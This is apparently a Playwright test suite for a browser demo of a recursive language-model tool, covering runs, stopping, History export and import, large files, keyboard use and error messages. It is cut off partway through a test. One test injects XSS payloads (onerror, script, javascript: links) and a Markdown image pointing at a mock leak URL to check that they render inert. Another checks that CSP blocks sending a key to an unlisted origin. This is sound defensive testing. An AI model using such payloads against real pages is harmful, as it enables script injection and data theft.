/**
 * The demo page, built (npm run build:demo) and served as plain static files, driven like a
 * person would: settings, context, question, Run, Stop, History, export and import. The
 * scripted LM server plays a local OpenAI-compatible endpoint.
 */
import { execFileSync } from 'node:child_process';
import { readFile } from 'node:fs/promises';
import { test as base, expect, type Page, type TestInfo } from '@playwright/test';
import { isRootCall, lastUser, repl, startLMServer, turnOf, type LMServer, type ScriptedRequest } from './support/lm-server';
import { startUnlistedOrigin } from './support/unlisted-origin';

interface Served {
  url: string;
  close(): Promise<void>;
}
type ServeFn = (options: { root: string; port?: number; isolated?: boolean }) => Promise<Served>;


const test = base.extend<{ lm: LMServer }, { demo: Served }>({
  demo: [
    async ({}, use) => {
      // The built demo, never the sources: build it once for this file, then serve demo-dist/.
      execFileSync('npx', ['vite', 'build', '--config', 'vite.demo.config.ts', '--logLevel', 'error'], { stdio: 'inherit', env: { ...process.env, VITE_CONFIG_NATIVE_IGNORE_WARNING: 'true' } });
      const { serve } = (await import('../scripts/serve.mjs' as string)) as { serve: ServeFn };
      const server = await serve({ root: 'demo-dist', port: 0 });
      await use(server);
      await server.close();
    },
    { scope: 'worker', timeout: 120_000 },
  ],
  lm: async ({}, use) => {
    const server = await startLMServer();
    await use(server);
    await server.close();
  },
});

const LAPTOP = { width: 1366, height: 860 };
const PHONE = { width: 390, height: 844 };

/** What a person sees: the viewport on a laptop (the run pane scrolls by itself), the whole page on a phone. */
async function shot(page: Page, testInfo: TestInfo, name: string): Promise<void> {
  const path = testInfo.outputPath(`${name}.png`);
  await page.screenshot({ path, fullPage: (page.viewportSize()?.width ?? 0) < 900 });
  await testInfo.attach(name, { path, contentType: 'image/png' });
}

async function open(page: Page, demo: Served): Promise<void> {
  page.on('pageerror', (e) => console.log(`[page error] ${e.message}`));
  if (process.env.E2E_CONSOLE) page.on('console', (m) => console.log(`[page ${m.type()}] ${m.text()}`));
  await page.goto(demo.url);
  await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeEnabled();
}

async function openSettings(page: Page): Promise<void> {
  const settings = page.locator('#settings');
  if (!(await settings.evaluate((d) => (d as HTMLDetailsElement).open))) await settings.locator('summary').click();
}

/** Settings for the scripted server as a local OpenAI-compatible endpoint. */
async function configureLocal(page: Page, lm: LMServer, baseURL = lm.openaiURL): Promise<void> {
  await openSettings(page);
  await page.getByLabel('Provider').selectOption('local');
  await page.getByLabel('Base URL').fill(baseURL);
  await page.getByLabel('API key').fill('test-key');
  await page.getByLabel('Root model').fill('scripted-root');
  await page.getByLabel('Sub-call model').fill('scripted-sub');
}

function run(page: Page) {
  return page.getByRole('button', { name: 'Run', exact: true });
}

const NEEDLE = 'The secret code is 7261.';

/** Root: look at the context and ask a sub-model, then answer. Sub-model: find the code. */
function needleScript(request: ScriptedRequest): string {
  if (!isRootCall(request)) {
    const m = /secret code is (\d+)/.exec(lastUser(request));
    return m ? m[1]! : 'NONE';
  }
  if (turnOf(request) === 0) {
    return repl('print(type(context).__name__, len(context))\nfound = llm_query("Find the secret code:\\n" + context[-2000:])\nprint("sub-model says", found)', 'Let me **look** at the context and ask a sub-model.');
  }
  return repl('answer["content"] = f"The code is **{found}**."\nanswer["ready"] = True', 'Found it.');
}

test('paste a context, run, watch the iterations and see the answer', async ({ page, demo, lm }, testInfo) => {
  lm.setScript(needleScript);
  await page.setViewportSize(LAPTOP);
  await open(page, demo);
  await shot(page, testInfo, '01-laptop-light-empty');
  await configureLocal(page, lm);
  const context = Array.from({ length: 3000 }, (_, i) => `line ${i}: nothing here`).concat(NEEDLE).join('\n');
  await page.getByLabel('Context text').fill(context);
  await page.getByLabel('Question').fill('What is the secret code?');
  await expect(page.locator('#context-summary')).toContainText('pasted text');
  await shot(page, testInfo, '02-laptop-light-ready');

  const clicked = Date.now();
  await run(page).click();
  await expect(page.locator('.iteration').first()).toBeVisible();
  const toCard = Date.now() - clicked;
  await expect(page.locator('.iteration').first().locator('.prose')).toContainText('look at the context');
  const toText = Date.now() - clicked;
  await expect(page.locator('.cell').first()).toHaveAttribute('data-state', /ok|error/);
  const toOutput = Date.now() - clicked;
  const inPage = await page.locator('.run').getAttribute('data-first-iteration-ms');
  const inPageText = await page.locator('.run').getAttribute('data-first-text-ms');
  // Printed, not asserted: in-page figures are from the click handler; the others include Playwright's polling.
  console.log(`Run → first iteration card: ${inPage} ms in page (${toCard} ms seen by the test); → model text shown: ${inPageText} ms in page (${toText} ms); → first cell output, Python boot included: ${toOutput} ms`);

  const answer = page.locator('.answer');
  await expect(answer).toBeVisible();
  await expect(answer).toContainText('The code is 7261.');
  await expect(answer.locator('strong')).toHaveText('7261');
  await expect(page.locator('.run .status')).toHaveText('Done');
  await expect(page.locator('.iteration')).toHaveCount(2);
  const first = page.locator('.iteration').first();
  await expect(first.locator('.prose strong')).toHaveText('look');
  await expect(first.locator('.cell .output').first()).toContainText(`str ${context.length}`);
  await expect(first.locator('.cell .output').first()).toContainText('sub-model says 7261');
  await expect(first.locator('.cell code .hljs-built_in').first()).toHaveText('print');
  // The sub-call, expandable.
  const subcall = first.locator('details.subcall');
  await expect(subcall).toHaveCount(1);
  await expect(subcall.locator('summary')).toContainText('llm_query');
  await expect(subcall.locator('summary')).toContainText('scripted-sub');
  await expect(page.locator('[data-total="sub-calls"] dd')).toHaveText('1');
  await expect(page.locator('[data-total="cost"] dd')).toHaveText('cost unknown for scripted-root, scripted-sub');
  await expect(page.locator('[data-total="iterations"] dd')).toHaveText('2');
  await expect(page.locator('#bridge')).toContainText('JSPI bridge');
  await expect(page.locator('#bridge')).toContainText('no network, no storage');
  await expect(page.locator('#form-error')).toBeHidden();
  await shot(page, testInfo, '03-laptop-light-answered');
  await subcall.locator('summary').click();
  await expect(subcall.locator('.subcall-body')).toContainText('Find the secret code');
  await page.locator('#run-area').evaluate((area) => (area.scrollTop = 0));
  await shot(page, testInfo, '03b-laptop-light-subcall-open');

  await page.emulateMedia({ colorScheme: 'dark' });
  await shot(page, testInfo, '04-laptop-dark-subcall-open');
  await page.setViewportSize(PHONE);
  await shot(page, testInfo, '05-phone-dark-answered');
  await page.emulateMedia({ colorScheme: 'light' });
  await shot(page, testInfo, '06-phone-light-answered');
  // Nothing is wider than a phone screen.
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(PHONE.width);
});

test('stop a run while a cell is running, then run again', async ({ page, demo, lm }, testInfo) => {
  lm.setScript((request) => {
    if (!isRootCall(request)) return 'unused';
    if (lastUser(request).includes('second run')) return 'FINAL(second run answered)';
    return repl('print("working", flush=True)\ncount = 0\nwhile True:\n    count += 1', 'This will take a while.');
  });
  await page.setViewportSize(LAPTOP);
  await open(page, demo);
  await configureLocal(page, lm);
  await page.getByLabel('Context text').fill('some context');
  await page.getByLabel('Question').fill('Count forever');
  await run(page).click();
  const cell = page.locator('.cell').first();
  await expect(cell).toHaveAttribute('data-state', 'running');
  await expect(page.getByRole('button', { name: 'Stop', exact: true })).toBeFocused();
  await shot(page, testInfo, '07-laptop-light-cell-running');
  await page.getByRole('button', { name: 'Stop', exact: true }).click();
  await expect(page.locator('.run .status')).toHaveText('Stopped');
  await expect(page.locator('.run .error-box')).toContainText('You stopped the run');
  await expect(page.locator('.iteration').first()).toHaveAttribute('data-state', /stopped|done/);
  await expect(cell).not.toHaveAttribute('data-state', 'running');
  // A stop is not an error: nothing alarming under the Run button.
  await expect(page.locator('#form-error')).toBeHidden();
  await expect(run(page)).toBeEnabled();
  await expect(page.getByRole('button', { name: 'Stop', exact: true })).toBeDisabled();
  await shot(page, testInfo, '08-laptop-light-stopped');

  await page.getByLabel('Question').fill('And now the second run');
  await run(page).click();
  await expect(page.locator('.answer')).toContainText('second run answered');
  await expect(page.locator('.run .status')).toHaveText('Done');
});

test('History: reload and find the run, open it, export JSONL, import it back, delete; a closed tab leaves an interrupted run', async ({ page, context, demo, lm }, testInfo) => {
  lm.setScript((request) => {
    if (!isRootCall(request)) return 'unused';
    if (lastUser(request).includes('Never ending')) return repl('while True:\n    pass', 'Working on it.');
    if (turnOf(request) === 0) return repl('print(context.upper())', 'Reading.');
    return 'FINAL(It says *hello history*.)';
  });
  await page.setViewportSize(LAPTOP);
  await open(page, demo);
  await configureLocal(page, lm);
  await page.getByLabel('Context text').fill('hello history');
  await page.getByLabel('Question').fill('What does the context say?');
  await run(page).click();
  await expect(page.locator('.answer')).toContainText('It says hello history.');

  await page.reload();
  await expect(page.locator('.empty-state')).toBeVisible();
  const entries = page.locator('#history-list .history-open');
  await expect(entries).toHaveCount(1);
  await expect(entries.first()).toContainText('What does the context say?');
  await expect(entries.first()).toContainText('scripted-root');
  await expect(entries.first().locator('.status')).toHaveText('done');
  // Settings survived the reload; the key did not ("remember" was not ticked).
  await expect(page.getByLabel('Root model')).toHaveValue('scripted-root');
  await expect(page.getByLabel('API key')).toHaveValue('');

  await entries.first().click();
  await expect(page.locator('#viewing-label')).toHaveText('Saved run');
  await expect(page.locator('.run-question')).toHaveText('What does the context say?');
  await expect(page.locator('.iteration')).toHaveCount(2);
  await expect(page.locator('.iteration').first().locator('.cell .output')).toContainText('HELLO HISTORY');
  await expect(page.locator('.answer em')).toHaveText('hello history');
  await shot(page, testInfo, '09-laptop-light-history-open');

  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export JSONL' }).click()]);
  expect(download.suggestedFilename()).toMatch(/^rlm-run-.*\.jsonl$/);
  const exported = testInfo.outputPath('exported-run.jsonl');
  await download.saveAs(exported);
  const lines = (await readFile(exported, 'utf8')).trim().split('\n');
  expect(lines.length).toBeGreaterThanOrEqual(3); // metadata + 2 iterations
  expect(lines.map((l) => JSON.parse(l) as { type?: string }).some((l) => l.type === 'metadata')).toBe(true);

  await page.locator('#import-file').setInputFiles(exported);
  await expect(page.locator('#history-status')).toContainText('Imported exported-run.jsonl');
  await expect(entries).toHaveCount(2);
  await expect(page.locator('#history-list .status', { hasText: 'imported' })).toHaveCount(1);
  await expect(page.locator('.run .status')).toHaveText('Imported');
  await expect(page.locator('.answer')).toContainText('It says hello history.');
  await expect(page.locator('.iteration').first().locator('.cell .output')).toContainText('HELLO HISTORY');

  page.once('dialog', (dialog) => void dialog.accept());
  await page.getByRole('button', { name: 'Delete' }).click();
  await expect(entries).toHaveCount(1);
  await expect(page.locator('#history-status')).toHaveText('Run deleted.');

  // A tab closed mid-run: the next page finds the run interrupted, with what it had.
  await openSettings(page);
  await page.getByLabel('API key').fill('test-key');
  await page.getByLabel('Context text').fill('a context that takes forever');
  await page.getByLabel('Question').fill('Never ending');
  await run(page).click();
  await expect(page.locator('.cell').first()).toHaveAttribute('data-state', 'running');
  await expect(entries).toHaveCount(2);
  await page.close();
  const next = await context.newPage();
  await next.setViewportSize(LAPTOP);
  await open(next, demo);
  const interrupted = next.locator('#history-list .history-open', { hasText: 'Never ending' });
  await expect(interrupted.locator('.status')).toHaveText('interrupted');
  await interrupted.click();
  await expect(next.locator('.run .status')).toHaveText('Interrupted (tab closed)');
  await expect(next.locator('.status-line')).toHaveText('The tab closed during the run; 0 iterations were saved, and the reply of the one in progress.');
  await expect(next.locator('.iteration').first()).toContainText('Working on it.');
  await expect(next.locator('[data-total="time"] dd')).toHaveText('—');
  await shot(next, testInfo, '10-laptop-light-history-interrupted');
});

test('a 50 MB file as the context goes through the Blob path, its size shown', async ({ page, demo, lm }, testInfo) => {
  const size = 50_000_000;
  const buffer = Buffer.alloc(size, 'filler line of a large log file, nothing to see here\n');
  const tail = Buffer.from(`\n${NEEDLE}\n`);
  tail.copy(buffer, size - tail.length);
  lm.setScript((request) => {
    if (!isRootCall(request)) return 'unused';
    return repl('print(type(context).__name__, len(context))\nanswer["content"] = context.strip().splitlines()[-1]\nanswer["ready"] = True', 'Reading the end of the file.');
  });
  await page.setViewportSize(LAPTOP);
  await open(page, demo);
  await configureLocal(page, lm);
  await page.locator('#file-picker').setInputFiles({ name: 'big.log', mimeType: 'text/plain', buffer });
  await expect(page.locator('#file-list')).toContainText('big.log');
  await expect(page.locator('#file-list')).toContainText('47.7 MB');
  await expect(page.locator('#context-summary')).toContainText('big.log, 47.7 MB');
  await page.getByLabel('Question').fill('What is the last line?');
  await shot(page, testInfo, '11-laptop-light-big-file');
  await run(page).click();
  await expect(page.locator('.answer')).toContainText(NEEDLE);
  await expect(page.locator('.cell .output').first()).toContainText(`str ${size}`);
  await expect(page.locator('.run-facts')).toContainText('big.log, 47.7 MB');
});

test('model output with <img onerror> and <script> renders as text and runs nothing', async ({ page, demo, lm }, testInfo) => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const evil = '<img src=x onerror="alert(1);window.__pwned=1"> and <script>alert(2);window.__pwned=2</script>';
  lm.setScript((request) => {
    if (!isRootCall(request)) return 'unused';
    if (turnOf(request) === 0) {
      return repl(`print(${JSON.stringify(evil)})`, `Look: ${evil}\n\n<iframe src="javascript:alert(3)"></iframe>\n\nA [link](javascript:alert(4)) and a ![pixel](http://127.0.0.1:9/leak?data=secret) in Markdown.`);
    }
    return repl(`answer["content"] = ${JSON.stringify(`Answer: ${evil}`)}\nanswer["ready"] = True`, 'Done.');
  });
  await page.setViewportSize(LAPTOP);
  await open(page, demo);
  await configureLocal(page, lm);
  await page.getByLabel('Context text').fill('anything');
  await page.getByLabel('Question').fill('Say something nasty');
  await run(page).click();
  await expect(page.locator('.answer')).toContainText('Answer: <img src=x onerror=');

  async function assertInert(): Promise<void> {
    const area = page.locator('#run-area');
    await expect(area.locator('.prose').first()).toContainText('Look: <img src=x onerror="alert(1);window.__pwned=1"> and <script>');
    await expect(area.locator('.answer')).toContainText('<script>alert(2);window.__pwned=2</script>');
    await expect(area.locator('.cell .output').first()).toContainText('<img src=x onerror=');
    await expect(area.locator('img, script, iframe')).toHaveCount(0);
    await expect(area.locator('a[href^="javascript:"]')).toHaveCount(0);
    // A Markdown image would fetch a URL of the model's choosing: it is a plain link instead.
    await expect(area.locator('a[href="http://127.0.0.1:9/leak?data=secret"]')).toHaveText('pixel');
    await expect(area.locator('.prose').first()).toContainText('<iframe src="javascript:alert(3)"></iframe>');
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
  }
  await assertInert();
  await shot(page, testInfo, '12-laptop-light-untrusted-output');
  // The same run drawn from History.
  await page.locator('#history-list .history-open').first().click();
  await expect(page.locator('#viewing-label')).toHaveText('Saved run');
  await assertInert();
});

test('a 5 MB answer and a long reply are shown as plain text with a note; the answer is cut to maxAnswerChars, live and in History; the page stays responsive', async ({ page, demo, lm }, testInfo) => {
  // A GFM table the size that takes marked + DOMPurify far over 50 ms (the reply's prose).
  const table = `| n | what | code |\n| --- | --- | --- |\n${Array.from({ length: 1500 }, (_, i) => `| ${i} | **bold** [link](https://example.org) | \`x\` |`).join('\n')}`;
  lm.setScript((request) => {
    if (!isRootCall(request)) return 'unused';
    // ≈5.2 MB of Markdown list, built in the REPL: more than the default maxAnswerChars (1 000 000).
    return repl('rows = [f"- item **{i}** [link](https://example.org) `code`" for i in range(100_000)]\nanswer["content"] = "\\n".join(rows)\nanswer["ready"] = True', table);
  });
  await page.setViewportSize(LAPTOP);
  await open(page, demo);
  await configureLocal(page, lm);
  await page.getByLabel('Context text').fill('anything');
  await page.getByLabel('Question').fill('List everything');
  await run(page).click();

  async function assertPlain(): Promise<void> {
    const answer = page.locator('.answer');
    await expect(answer).toBeVisible();
    const body = answer.locator('.answer-body');
    // The plain-text path was taken: a note, the Markdown source as text, no list built from it.
    await expect(body).toHaveAttribute('data-rendered', 'plain');
    const note = (await body.locator('.plain-note').textContent())!;
    expect(note).toMatch(/^This answer is [\d,]+ characters long, so it is shown as plain text, not Markdown, with [\d,]+ characters of its middle left out\.$/);
    // What is shown (and stored) was cut on the page to 1 000 000 characters plus the library's note.
    const length = Number(/is ([\d,]+) characters/.exec(note)![1]!.replace(/,/g, ''));
    expect(length).toBeGreaterThan(1_000_000);
    expect(length).toBeLessThan(1_000_400);
    const text = (await body.locator('pre.plain-text').textContent())!;
    expect(text.startsWith('- item **0** [link](https://example.org) `code`\n- item **1**')).toBe(true);
    expect(text).toMatch(/characters not shown …/);
    expect(text).toMatch(/\[rlm-web: the answer was \d+ characters long; the last \d+ were dropped \(maxAnswerChars is 1000000\)\. Raise maxAnswerChars/);
    await expect(body.locator('li, strong, a')).toHaveCount(0);
    // The reply's prose (a 1 500-row table) is plain text too.
    const prose = page.locator('.iteration').first().locator('.prose').first();
    await expect(prose).toHaveAttribute('data-rendered', 'plain');
    await expect(prose.locator('.plain-note')).toContainText('This reply is');
    await expect(prose.locator('table')).toHaveCount(0);
    // The page answers at once: nothing is left blocking the main thread.
    const asked = Date.now();
    expect(await page.evaluate(() => document.querySelectorAll('.answer pre.plain-text').length)).toBe(1);
    expect(Date.now() - asked).toBeLessThan(5_000);
  }
  await expect(page.locator('.run .status')).toHaveText('Done');
  await assertPlain();
  await shot(page, testInfo, '13-laptop-light-huge-answer');
  // The stored run (IndexedDB) holds the cut answer: drawn from History, it says the same.
  await page.locator('#history-list .history-open').first().click();
  await expect(page.locator('#viewing-label')).toHaveText('Saved run');
  await assertPlain();
});

test('errors say what to do where the user looks: missing settings, bad key, unreachable endpoint', async ({ page, demo, lm }, testInfo) => {
  lm.setScript(() => ({ status: 401, error: 'Incorrect API key provided' }));
  await page.setViewportSize(LAPTOP);
  await open(page, demo);
  await page.getByLabel('Provider').selectOption('openai');
  await page.getByLabel('Context text').fill('anything');
  await run(page).click();
  await expect(page.locator('#form-error')).toContainText('Enter your OpenAI API key in Settings');
  await expect(page.getByLabel('API key')).toBeFocused();

  await configureLocal(page, lm);
  await page.getByLabel('Question').fill('Will this work?');
  await run(page).click();
  const runError = page.locator('.run .error-box');
  await expect(runError).toContainText('The API key was refused.');
  await expect(runError).toContainText('paste a valid key');
  await expect(page.locator('.run .status')).toHaveText('Failed');
  await shot(page, testInfo, '13-laptop-light-bad-key');

  await openSettings(page);
  await page.getByLabel('Base URL').fill('http://127.0.0.1:9/v1');
  await run(page).click();
  await expect(runError).toContainText('The model endpoint could not be reached.', { timeout: 60_000 });
  await expect(runError).toContainText('http://127.0.0.1:9/v1');
  await page.setViewportSize(PHONE);
  await page.emulateMedia({ colorScheme: 'dark' });
  await shot(page, testInfo, '14-phone-dark-unreachable');
});

test('the page freezes its intrinsics, its CSP refuses an endpoint Settings does not offer, and Settings says so before a run', async ({ page, demo, lm }) => {
  const outside = await startUnlistedOrigin();
  const { url, connections } = outside;
  try {
    await open(page, demo);
    const probe = await page.evaluate(async (url) => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      const sent = await fetch(url, { method: 'POST', body: 'the key' }).then(
        () => 'sent',
        (e: Error) => `refused: ${e.name}`,
      );
      await new Promise((ok) => setTimeout(ok, 200));
      return { sent, violations, frozen: [Object.prototype, Function.prototype, Array.prototype].every(Object.isFrozen), planted: Reflect.set(Object.prototype, 'defaultBaseURL', url) };
    }, url);
    expect(probe).toEqual({ sent: 'refused: TypeError', violations: ['connect-src'], frozen: true, planted: false });
    await configureLocal(page, lm, url);
    await page.getByLabel('Context text').fill('anything');
    await run(page).click();
    await expect(page.locator('#form-error')).toContainText('not to 127.0.0.2:');
    expect(connections).toEqual([]);
    expect(lm.requests).toEqual([]);
  } finally {
    await outside.close();
  }
});

test('remember the key only when asked, with a warning', async ({ page, demo, lm }) => {
  await open(page, demo);
  await configureLocal(page, lm);
  await expect(page.locator('#remember-warning')).toBeHidden();
  await page.getByLabel('Remember on this device').check();
  await expect(page.locator('#remember-warning')).toBeVisible();
  await expect(page.locator('#remember-warning')).toContainText('unencrypted');
  await page.reload();
  await openSettings(page);
  await expect(page.getByLabel('API key')).toHaveValue('test-key');
  await page.getByLabel('Remember on this device').uncheck();
  await page.reload();
  await openSettings(page);
  await expect(page.getByLabel('API key')).toHaveValue('');
  expect(await page.evaluate(() => Object.values(localStorage).some((v) => v.includes('test-key')))).toBe(false);
});

test('several files, chosen or dropped, become a list context with names', async ({ page, demo, lm }) => {
  lm.setScript((request) => {
    if (!isRootCall(request)) return 'unused';
    return repl('print(type(context).__name__, [f["name"] for f in context])\nanswer["content"] = " | ".join(f["content"].strip() for f in context)\nanswer["ready"] = True', 'Listing the files.');
  });
  await page.setViewportSize(LAPTOP);
  await open(page, demo);
  await configureLocal(page, lm);
  await page.locator('#file-picker').setInputFiles([
    { name: 'notes.md', mimeType: 'text/markdown', buffer: Buffer.from('- alpha') },
    { name: 'data.csv', mimeType: 'text/csv', buffer: Buffer.from('a,b\n1,2') },
  ]);
  // A third file dropped onto the context area.
  await page.locator('#drop-zone').evaluate((zone) => {
    const transfer = new DataTransfer();
    transfer.items.add(new File(['print("gamma")'], 'script.py', { type: 'text/x-python' }));
    zone.dispatchEvent(new DragEvent('dragover', { dataTransfer: transfer, bubbles: true, cancelable: true }));
    zone.dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }));
  });
  await expect(page.locator('#file-list li')).toHaveCount(3);
  await expect(page.locator('#context-summary')).toContainText('a list of 3 files');
  await page.getByRole('button', { name: 'Remove data.csv' }).click();
  await expect(page.locator('#file-list li')).toHaveCount(2);
  await page.getByLabel('Question').fill('What is in the files?');
  await run(page).click();
  await expect(page.locator('.cell .output').first()).toContainText("list ['notes.md', 'script.py']");
  await expect(page.locator('.answer')).toContainText('alpha | print("gamma")');
});

test('served cross-origin isolated: the SharedArrayBuffer bridge, and a stopped cell keeps its variables', async ({ page, lm }, testInfo) => {
  const { serve } = (await import('../scripts/serve.mjs' as string)) as { serve: ServeFn };
  const isolated = await serve({ root: 'demo-dist', port: 0, isolated: true });
  try {
    lm.setScript((request) => {
      if (!isRootCall(request)) return 'unused';
      return repl('kept = 42\nwhile True:\n    pass', 'Spinning.');
    });
    await page.setViewportSize(LAPTOP);
    await open(page, isolated);
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
    await expect(page.locator('#bridge')).toContainText('cross-origin isolated');
    await configureLocal(page, lm);
    await expect(page.locator('#bridge-hint')).toContainText('keeps its variables');
    await expect(page.locator('#coi-field')).toBeHidden();
    await expect(page.getByLabel('Python bridge')).toHaveValue('auto');
    await page.getByLabel('Context text').fill('context');
    await page.getByLabel('Question').fill('Spin');
    await run(page).click();
    await expect(page.locator('.cell').first()).toHaveAttribute('data-state', 'running');
    await expect(page.locator('#bridge')).toContainText('SharedArrayBuffer bridge · Stop keeps variables');
    await page.getByRole('button', { name: 'Stop', exact: true }).click();
    await expect(page.locator('.cell .output.stderr').first()).toContainText('Variables set before that point are kept');
    await expect(page.locator('.run .status')).toHaveText('Stopped');
    await shot(page, testInfo, '15-laptop-light-isolated-sab-stopped');
    // JSPI can be chosen instead; on an isolated page its cells are interruptible too.
    await openSettings(page);
    await page.getByLabel('Python bridge').selectOption('jspi');
    await run(page).click();
    await expect(page.locator('#bridge')).toContainText('JSPI bridge · Stop keeps variables');
  } finally {
    // The page's open connections would keep the server from closing.
    await page.close();
    await isolated.close();
  }
});

test('on a static host without headers, the service worker makes the page cross-origin isolated', async ({ page, demo, lm }) => {
  await open(page, demo);
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(false);
  await configureLocal(page, lm);
  await expect(page.locator('#bridge-hint')).toContainText('not cross-origin isolated');
  await Promise.all([page.waitForEvent('load'), page.getByLabel(/Cross-origin isolation by service worker/).check()]);
  await page.waitForFunction(() => crossOriginIsolated === true);
  await expect(page.locator('#bridge')).toContainText('cross-origin isolated');
  // Unticking removes the worker: the next load is a plain page again.
  await openSettings(page);
  await Promise.all([page.waitForEvent('load'), page.getByLabel(/Cross-origin isolation by service worker/).uncheck()]);
  await page.reload();
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(false);
});

test('a child RLM (rlm_query at depth 2) shows as an expandable nested timeline', async ({ page, demo, lm }, testInfo) => {
  lm.setScript((request) => {
    if (!isRootCall(request)) return 'unused';
    const isRoot = request.messages.some((m) => m.content.includes('Which chapter matters?'));
    // The child thinks for a moment, so that its progress shows on the running cell.
    if (!isRoot) return { content: repl('print("child sees", len(context))\nanswer["content"] = "chapter " + context.split()[-1]\nanswer["ready"] = True', 'I am the child RLM.'), delayMs: 1500 };
    if (turnOf(request) === 0) return repl('r = rlm_query("Look closely at chapter 7")\nprint(r)', 'Delegating to a child RLM.');
    return 'FINAL(The child says: chapter 7.)';
  });
  await page.setViewportSize(LAPTOP);
  await open(page, demo);
  await configureLocal(page, lm);
  await page.getByLabel('Max depth').fill('2');
  await page.getByLabel('Context text').fill('a book with chapters');
  await page.getByLabel('Question').fill('Which chapter matters?');
  await run(page).click();
  await expect(page.locator('.subcall.pending .meta')).toHaveText('child RLM · iteration 1…');
  await expect(page.locator('.answer')).toContainText('The child says: chapter 7.');
  // Only the root's iterations are on the main timeline.
  await expect(page.locator('#run-slot > .run > .timeline > .iteration')).toHaveCount(2);
  const subcall = page.locator('details.subcall').first();
  await expect(subcall.locator('summary .kind')).toHaveText('rlm_query');
  await subcall.locator('summary').click();
  const child = subcall.locator('.child-run');
  await expect(child).toContainText('Child RLM · 1 iteration');
  await expect(child.locator('.iteration .prose')).toContainText('I am the child RLM.');
  await expect(child.locator('.iteration .cell .output')).toContainText('child sees 25');
  await expect(subcall.locator('.subcall-body')).toContainText('chapter 7');
  await subcall.scrollIntoViewIfNeeded();
  await shot(page, testInfo, '16-laptop-light-child-rlm');
});

test('keyboard: the hidden file input shows focus on its label, Ctrl+Enter runs, the answer takes focus, Enter on Run runs again', async ({ page, demo, lm }) => {
  // An OpenRouter-like endpoint that reports each call's price.
  lm.setScript(() => ({ content: 'FINAL(typed, not clicked)', usage: { cost: 0.25 } }));
  await page.setViewportSize(LAPTOP);
  await open(page, demo);
  await configureLocal(page, lm);
  await page.getByLabel('Context text').fill('keyboard context');
  // From the context box, Tab goes to the file picker, whose label shows the focus ring.
  await page.getByLabel('Context text').focus();
  await page.keyboard.press('Tab');
  await expect(page.locator('#file-picker')).toBeFocused();
  const ring = await page.locator('label[for="file-picker"]').evaluate((label) => getComputedStyle(label).outlineStyle);
  expect(ring).toBe('solid');
  await page.keyboard.press('Tab');
  await expect(page.getByLabel('Question')).toBeFocused();
  await page.keyboard.type('Does the keyboard work?');
  await page.keyboard.press('Control+Enter');
  await expect(page.locator('.answer')).toContainText('typed, not clicked');
  await expect(page.locator('.answer')).toBeFocused();
  await expect(page.locator('[data-total="cost"] dd')).toHaveText('$0.25');
  await expect(page.locator('#history-list .history-open')).toHaveCount(1);
  await expect(page.locator('#history-list .history-meta')).toContainText('$0.25');
  await page.getByRole('button', { name: 'Run', exact: true }).focus();
  await page.keyboard.press('Enter');
  await expect(page.locator('#history-list .history-open')).toHaveCount(2);
  await expect(page.locator('.answer')).toBeFocused();
});

test('storage full: the run still answers, and the page says History could not save it and what to do', async ({ page, demo, lm }, testInfo) => {
  lm.setScript((request) => (turnOf(request) === 0 ? repl('print(len(context))', 'Measuring.') : 'FINAL(measured)'));
  await page.setViewportSize(LAPTOP);
  await open(page, demo);
  // A real quota, made tiny through the DevTools protocol: IndexedDB itself refuses the writes.
  const cdp = await page.context().newCDPSession(page);
  await cdp.send('Storage.overrideQuotaForOrigin', { origin: new URL(demo.url).origin, quotaSize: 2_000 });
  await configureLocal(page, lm);
  await page.getByLabel('Context text').fill('x'.repeat(50_000));
  await page.getByLabel('Question').fill('How long is it?');
  await run(page).click();
  await expect(page.locator('.answer')).toContainText('measured');
  await expect(page.locator('#form-error')).toContainText('The browser’s storage is full.');
  await expect(page.locator('#form-error')).toContainText('Delete old runs in History');
  await shot(page, testInfo, '17-laptop-light-storage-full');
});

test('History imports a log written by the reference implementation (rlms) and shows it in the same view', async ({ page, demo }, testInfo) => {
  const log = [
    { type: 'metadata', timestamp: '2026-06-25T14:03:11.123456', root_model: 'gpt-5', max_depth: 2, max_iterations: 10, backend: 'openai', backend_kwargs: { model_name: 'gpt-5' }, environment_type: 'local', environment_kwargs: {}, other_backends: ['openai'] },
    {
      type: 'iteration',
      iteration: 1,
      timestamp: '2026-06-25T14:03:15.000001',
      prompt: [{ role: 'user', content: 'Your context is a str with 50000 total characters. The original query: "What is the secret number?"' }],
      response: 'Let me look.\n```repl\nr = llm_query("find it")\nprint(r)\n```',
      code_blocks: [
        {
          code: 'r = llm_query("find it")\nprint(r)',
          result: {
            stdout: '7421\n',
            stderr: '',
            locals: { r: '7421' },
            execution_time: 1.75,
            rlm_calls: [{ root_model: 'gpt-5-mini', prompt: 'find it', response: '7421', usage_summary: { model_usage_summaries: { 'gpt-5-mini': { total_calls: 1, total_input_tokens: 1200, total_output_tokens: 4, total_cost: 0.0003 } }, total_cost: 0.0003 }, execution_time: 0.9 }],
            final_answer: null,
          },
        },
      ],
      final_answer: null,
      iteration_time: 2.5,
    },
    { type: 'iteration', iteration: 2, timestamp: '2026-06-25T14:03:20.5', prompt: [{ role: 'user', content: 'Continue.' }], response: 'FINAL(7421)', code_blocks: [], final_answer: ['FINAL', '7421'], iteration_time: 0.25 },
  ]
    .map((line) => JSON.stringify(line))
    .join('\n');
  await page.setViewportSize(LAPTOP);
  await open(page, demo);
  await page.locator('#import-file').setInputFiles({ name: 'rlms-log.jsonl', mimeType: 'application/x-ndjson', buffer: Buffer.from(log) });
  await expect(page.locator('#history-status')).toContainText('Imported rlms-log.jsonl');
  await expect(page.locator('.run .status')).toHaveText('Imported');
  await expect(page.locator('.run-question')).toHaveText('What is the secret number?');
  await expect(page.locator('.run-facts')).toContainText('gpt-5 · context not recorded');
  await expect(page.locator('.iteration')).toHaveCount(2);
